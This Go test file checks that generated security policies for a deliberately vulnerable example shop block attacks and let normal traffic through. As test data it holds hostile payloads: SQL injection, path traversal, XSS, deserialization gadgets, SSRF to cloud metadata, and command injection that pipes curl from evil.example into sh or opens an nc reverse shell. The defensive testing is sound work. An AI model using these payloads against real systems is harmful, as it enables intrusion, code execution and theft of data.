package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"redoubt/guard/event"
	"redoubt/policy"
	"redoubt/policy/compile"
)

// shopPolicies are the policies that harden writes for the vulnerable shop, set to
// enforce.
func shopPolicies(t *testing.T) map[string]policy.Function {
	t.Helper()
	dir := t.TempDir()
	var out, errs bytes.Buffer
	code := run(context.Background(), std{
		args: []string{"harden", "--guard", dir, "../../examples/shop/template.yaml"}, in: strings.NewReader(""), out: &out, err: &errs,
		env: func(string) string { return "" },
	})
	if code != exitOK {
		t.Fatalf("harden ends with %d: %s", code, errs.String())
	}
	data, err := os.ReadFile(filepath.Join(dir, "template.policy.json"))
	if err != nil {
		t.Fatal(err)
	}
	d, err := policy.ReadDocument(data)
	if err != nil {
		t.Fatal(err)
	}
	policies := map[string]policy.Function{}
	for _, f := range d.Functions {
		f.Mode = policy.Enforce
		policies[f.Name] = f
	}
	return policies
}

// shopGuards are guards with these policies.
func shopGuards(t *testing.T) map[string]*event.Guard {
	t.Helper()
	guards := map[string]*event.Guard{}
	for name, f := range shopPolicies(t) {
		compiled, err := compile.Function(f)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if guards[name], err = event.New(compiled, event.World{}); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
	}
	return guards
}

// A shopEvent makes an event of a function from a value that a caller chooses.
type shopEvent struct {
	function string
	make     func(value string) any
}

type object = map[string]any

// restRequest is what a REST API hands over.
func restRequest(method, resource, path string, query, inPath object, body any) any {
	return object{
		"resource": resource, "path": path, "httpMethod": method, "headers": object{"Content-Type": "application/json"}, "multiValueHeaders": object{},
		"queryStringParameters": query, "multiValueQueryStringParameters": nil, "pathParameters": inPath, "stageVariables": nil, "body": body, "isBase64Encoded": false,
		"requestContext": object{
			"resourcePath": resource, "httpMethod": method, "path": path, "accountId": "1", "protocol": "HTTP/1.1", "stage": "prod", "requestId": "r",
			"identity": object{"sourceIp": "203.0.113.9"}, "apiId": "a",
		},
	}
}

func text(v any) string {
	data, _ := json.Marshal(v) // of maps and texts
	return string(data)
}

// The ways into the shop by which attack_cases.tsv's attacks come.
var (
	search = shopEvent{"CatalogSearch", func(v string) any {
		return restRequest("GET", "/products", "/products", object{"q": v}, nil, nil)
	}}
	page = shopEvent{"Storefront", func(v string) any {
		return restRequest("GET", "/shop/{proxy+}", "/shop/"+v, object{"name": "Anna"}, object{"proxy": v}, nil)
	}}
	greeting = shopEvent{"Storefront", func(v string) any {
		return restRequest("GET", "/shop/{proxy+}", "/shop/index.html", object{"name": v}, object{"proxy": "index.html"}, nil)
	}}
	settings = shopEvent{"Storefront", func(v string) any {
		return restRequest("POST", "/shop/{proxy+}", "/shop/settings", nil, object{"proxy": "settings"}, v)
	}}
	order = shopEvent{"PlaceOrder", func(v string) any {
		return restRequest("POST", "/orders", "/orders", nil, nil, v)
	}}
	upload = shopEvent{"Thumbnailer", func(v string) any {
		return object{"Records": []any{object{
			"eventVersion": "2.1", "eventSource": "aws:s3", "awsRegion": "eu-west-1", "eventTime": "2026-11-29T10:00:00.000Z", "eventName": "ObjectCreated:Put",
			"s3": object{"s3SchemaVersion": "1.0", "bucket": object{"name": "media", "arn": "arn:aws:s3:::media"}, "object": object{"key": v, "size": 1, "eTag": "x", "sequencer": "1"}},
		}}}
	}}
	sorting = shopEvent{"CatalogSearch", func(v string) any {
		return restRequest("GET", "/products", "/products", object{"q": "desk", "sort": v}, nil, nil)
	}}
	show = shopEvent{"GetOrder", func(v string) any {
		e := restRequest("GET", "/orders/{id}", "/orders/1", nil, object{"id": v}, nil).(object)
		e["headers"] = object{"Authorization": "Bearer e30.e30.x"}
		return e
	}}
	feed = shopEvent{"ImportCatalog", func(v string) any {
		return object{
			"version": "2.0", "routeKey": "$default", "rawPath": "/", "rawQueryString": "", "headers": object{"content-type": "application/json"},
			"requestContext": object{"accountId": "anonymous", "apiId": "x", "domainName": "x.lambda-url.eu-west-1.on.aws", "http": object{"method": "POST", "path": "/", "sourceIp": "203.0.113.9"}, "requestId": "r"},
			"body":           text(object{"feed": v}), "isBase64Encoded": false,
		}
	}}
	stored = shopEvent{"Indexer", func(v string) any {
		return object{"Records": []any{object{
			"eventID": "1", "eventName": "INSERT", "eventVersion": "1.1", "eventSource": "aws:dynamodb", "awsRegion": "eu-west-1",
			"eventSourceARN": "arn:aws:dynamodb:eu-west-1:1:table/orders/stream/2026-11-29T10:00:00.000",
			"dynamodb":       object{"Keys": object{"id": object{"S": "1"}}, "NewImage": object{"id": object{"S": "1"}, "options": object{"S": v}}, "SequenceNumber": "1", "StreamViewType": "NEW_IMAGE"},
		}}}
	}}
	note = shopEvent{"OrderWorker", func(v string) any {
		return message(object{"orderId": "42", "customer": "Anna", "note": v})
	}}
	customer = shopEvent{"OrderWorker", func(v string) any {
		return message(object{"orderId": "42", "customer": v, "note": "ring twice"})
	}}
	orderID = shopEvent{"OrderWorker", func(v string) any {
		return message(object{"orderId": v, "customer": "Anna", "note": "ring twice"})
	}}
	amount = shopEvent{"Notify", func(v string) any {
		return object{
			"version": "0", "id": "x", "detail-type": "order", "source": "shop", "account": "1", "time": "2026-11-29T10:00:00Z", "region": "eu-west-1", "resources": []any{},
			"detail": object{"amount": v, "orderId": "1"},
		}
	}}
)

func message(body any) any {
	return object{"Records": []any{object{
		"messageId": "m1", "receiptHandle": "h", "body": text(body), "attributes": object{}, "messageAttributes": object{}, "md5OfBody": "x",
		"eventSource": "aws:sqs", "eventSourceARN": "arn:aws:sqs:eu-west-1:1:q", "awsRegion": "eu-west-1",
	}}}
}

// TestGuardShopAttacks: what harden writes for the shop refuses the attacks of its
// kinds, each by inspection, not only by its form.
func TestGuardShopAttacks(t *testing.T) {
	guards := shopGuards(t)
	for _, c := range []struct {
		way    shopEvent
		class  string
		values []string
	}{
		{search, "sql", []string{`x' OR 1=1 --`, `%' UNION SELECT card FROM payments --`, `'; DROP TABLE products; --`}},
		{page, "path", []string{"../../etc/passwd", "..%2f..%2f..%2fproc/self/environ", "....//....//etc/passwd"}},
		{greeting, "xss", []string{"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=fetch('//evil.example')>"}},
		{settings, "prototype", []string{`{"__proto__":{"admin":true}}`, `{"constructor":{"prototype":{"admin":true}}}`}},
		{order, "deserialization", []string{`{"options":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}`}},
		{upload, "command", []string{"x$(id).jpg", "a;curl+evil.example|sh;.png", "%60id%60.jpg"}},
		{upload, "path", []string{"../../../../etc/passwd", "..%2F..%2Ftmp%2Fx"}},
		{sorting, "sql", []string{"price; DROP TABLE products", "(SELECT card FROM payments LIMIT 1)"}},
		{stored, "deserialization", []string{`{"py/object": "app.Shop", "x": 1}`, `{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}`}},
		{note, "command", []string{"$(curl evil.example | sh)", "`id`", "x; nc evil.example 1 -e /bin/sh"}},
		{orderID, "command", []string{"x; id", "$(id)"}},
		{feed, "ssrf", []string{"http://169.254.169.254/latest/meta-data/", "file:///proc/self/environ", "http://127.0.0.1:9001/2018-06-01/runtime/invocation/next"}},
		{show, "sql", []string{"' OR '1'='1", "x' OR attribute_exists(id) OR id='"}},
		{customer, "command", []string{"x; cat /etc/passwd", "$(curl evil.example)", "a | nc evil.example 1"}},
		{orderID, "path", []string{"../../etc/passwd", "/proc/self/environ"}},
		{amount, "command", []string{"__import__('os').system('id')"}},
	} {
		for _, v := range c.values {
			d := decided(t, guards, c.way, v)
			found := false
			for _, r := range d.Reasons {
				found = found || r.Control == policy.Inspection && strings.Contains(r.Class, c.class)
			}
			if d.Verdict == event.Allow || !d.Enforced || !found {
				t.Errorf("%s %q: %s %+v", c.way.function, v, d.Verdict, d.Reasons)
			}
		}
	}
}

// TestGuardShopBenign: 10,000 events that people would send pass.
func TestGuardShopBenign(t *testing.T) {
	guards := shopGuards(t)
	words := strings.Fields("oak desk lamp chair O'Brien table café Löffel 机 стол shelf select drawer where order")
	names := []string{"Anna", "Seán O'Brien", "D'Angelo Smith", "José Ñúñez", "李小龙", "Ada & Sons", "Müller-Lüdenscheidt"}
	for i := range 10_000 {
		pair := words[i%len(words)] + " " + words[(i/7)%len(words)]
		name := names[i%len(names)]
		var way shopEvent
		value := pair
		switch i % 7 {
		case 0:
			way = search
		case 1:
			way, value = page, fmt.Sprintf("catalogue/%d/index.html", i)
		case 2:
			way, value = greeting, name
		case 3:
			way, value = upload, fmt.Sprintf("photos/2026/%d+living+room.jpg", i)
		case 4:
			way, value = customer, name
		case 5:
			way, value = orderID, fmt.Sprintf("order-%06d", i)
		default:
			way, value = amount, fmt.Sprintf("%d.%02d", i, i%100)
		}
		if d := decided(t, guards, way, value); d.Verdict != event.Allow {
			t.Fatalf("%s %q: %s %+v", way.function, value, d.Verdict, d.Reasons)
		}
	}
}

func decided(t *testing.T, guards map[string]*event.Guard, way shopEvent, value string) event.Decision {
	t.Helper()
	g := guards[way.function]
	if g == nil {
		t.Fatalf("there is no policy of %s", way.function)
	}
	return g.Decide(context.Background(), event.Invocation{Event: []byte(text(way.make(value)))})
}
